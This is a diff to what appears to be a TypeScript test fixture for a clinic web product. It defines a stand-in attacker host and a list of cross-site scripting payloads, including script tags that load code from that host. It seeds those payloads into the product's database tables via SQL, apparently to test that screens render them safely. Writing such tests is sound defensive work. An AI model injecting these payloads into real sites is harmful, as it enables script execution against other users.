@@ -1,12 +1,12 @@
 import type { Clinic, Product } from './product.ts';
 
-/** The host of whoever attacks; nothing of ours may ever call it. */
+/** The attacker's host, which the product must never call. */
 export const EVIL = 'evil.example';
 
 const RUN = 'window.pwned=1;alert(1)';
 const CALL = `//${EVIL}/x`;
 
-/** Sixty texts that do something where a screen takes them for markup, an address, a style or a template. */
+/** Sixty texts that do something where a screen treats them as markup, an address, a style or a template. */
 export const PAYLOADS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<ScRiPt src=${CALL}></sCrIpT>`,
@@ -81,55 +81,55 @@ export const SHOWN = {
 
 /**
  * Puts each payload into every text of its own row of every table that the clinic's screens show; the newest row of each
- * holds them all. Past the product's own checks: what they refuse today may have come in yesterday.
+ * holds them all. Bypasses the product's checks: a row may be older than they are.
  */
-export async function plantPayloads(
-  { plant }: Pick<Product, 'plant'>,
+export async function insertPayloads(
+  { runSql }: Pick<Product, 'runSql'>,
   { clinicId, today }: Clinic,
 ): Promise<void> {
   const rows = [...PAYLOADS, ALL];
-  const planted = (text: string) =>
-    plant(text, [clinicId, rows, ...(text.includes('$3') ? [today] : [])]);
+  const insert = (text: string) =>
+    runSql(text, [clinicId, rows, ...(text.includes('$3') ? [today] : [])]);
   const each = 'from unnest($2::text[]) with ordinality as p(t, n)';
   const number = "'55500' || lpad(n::text, 5, '0')";
-  await planted(`update users set name = ($2::text[])[61], clinic_name = ($2::text[])[5],
+  await insert(`update users set name = ($2::text[])[61], clinic_name = ($2::text[])[5],
     clinic_address = ($2::text[])[1] || ($2::text[])[13], google_sheet_id = ($2::text[])[61], profile_types = $2::text[]
     where id = $1::uuid`);
-  await planted(
+  await insert(
     `insert into users (name, clinic_name, profile_types) select t, t, array[t] ${each} where $1::uuid is not null`,
   );
-  await planted(
+  await insert(
     `update logins set name = ($2::text[])[61] where clinic_id = $1::uuid and $2::text[] is not null`,
   );
-  await planted(
+  await insert(
     `insert into doctors (user_id, name, contact_number) select $1::uuid, t, ${number} ${each}`,
   );
-  await planted(`insert into appointments (user_id, doctor_name, doctor_contact, patient_name, appointment_date,
+  await insert(`insert into appointments (user_id, doctor_name, doctor_contact, patient_name, appointment_date,
     appointment_time, contact_number, patient_address, notes, created_at)
     select $1::uuid, t, t, t, $3::date, '10:00', ${number}, t, t, now() + n * interval '1 ms' ${each}`);
-  await planted(`insert into reviews (user_id, patient_name, contact_number, appointment_date, treatment, notes,
+  await insert(`insert into reviews (user_id, patient_name, contact_number, appointment_date, treatment, notes,
     ai_review_text, ai_review_writer, created_at)
     select $1::uuid, t, ${number}, $3::date, t, t, t, t, now() + n * interval '1 ms' ${each}`);
-  await planted(`insert into sequence_templates (user_id, profile_type, message_template, sequence_days, sequence_order)
+  await insert(`insert into sequence_templates (user_id, profile_type, message_template, sequence_days, sequence_order)
     select $1::uuid, t, t, 3, n ${each}`);
-  await planted(`insert into sequence_messages (user_id, patient_name, whatsapp_number, scheduled_date, message_content,
+  await insert(`insert into sequence_messages (user_id, patient_name, whatsapp_number, scheduled_date, message_content,
     status, created_at)
     select $1::uuid, t, ${number}, $3::date, left(t, 4096), case when n % 2 = 0 then 'failed' else 'pending' end,
     now() + n * interval '1 ms' ${each}`);
-  await planted(`insert into send_attempts (user_id, message_id, dedupe_key, channel, state, body_sha256, to_last_four,
+  await insert(`insert into send_attempts (user_id, message_id, dedupe_key, channel, state, body_sha256, to_last_four,
     requested_by_name, finished_at, detail)
     select user_id, id, 'message:' || id, 'direct', 'rejected', repeat('a', 64), '0001', left(patient_name, 200), now(),
     left(patient_name, 300) from sequence_messages where user_id = $1::uuid and status = 'failed' and $2::text[] is not null`);
-  await planted(`insert into report_requests (user_id, patient_name, patient_whatsapp_number, request_date, report_type,
+  await insert(`insert into report_requests (user_id, patient_name, patient_whatsapp_number, request_date, report_type,
     status, notes, created_at)
     select $1::uuid, t, ${number}, $3::date, t, translate(left(t, 40), chr(9) || chr(10), '  '), t, now() + n * interval '1 ms' ${each}`);
-  await planted(
+  await insert(
     `insert into do_not_contact (user_id, number, reason) select $1, '55511' || lpad(n::text, 5, '0'), t ${each}`,
   );
-  await planted(
+  await insert(
     `insert into creative_categories (name) select t ${each} where $1::uuid is not null`,
   );
-  await plant(
+  await runSql(
     `insert into creatives (user_id, title, description, content_type, content, thumbnail_url, year, month_number, created_at)
       select $1::uuid, t, t, kind, address || $3 || n, case when kind = 'iframe' then null else $4 || n end, 2028, 1,
       now() + n * interval '1 ms'
@@ -146,9 +146,9 @@ export async function plantPayloads(
   );
 }
 
-/** Categories and the admin's list are everybody's: other journeys must not meet these. */
-export async function removeSharedPayloads({ plant }: Pick<Product, 'plant'>): Promise<void> {
+/** Categories and the admin's list are shared by all clinics: other journeys must not see these. */
+export async function removeSharedPayloads({ runSql }: Pick<Product, 'runSql'>): Promise<void> {
   const texts = [...PAYLOADS, ALL];
-  await plant('delete from creative_categories where name = any ($1)', [texts]);
-  await plant('delete from users where clinic_name = name and name = any ($1)', [texts]);
+  await runSql('delete from creative_categories where name = any ($1)', [texts]);
+  await runSql('delete from users where clinic_name = name and name = any ($1)', [texts]);
 }
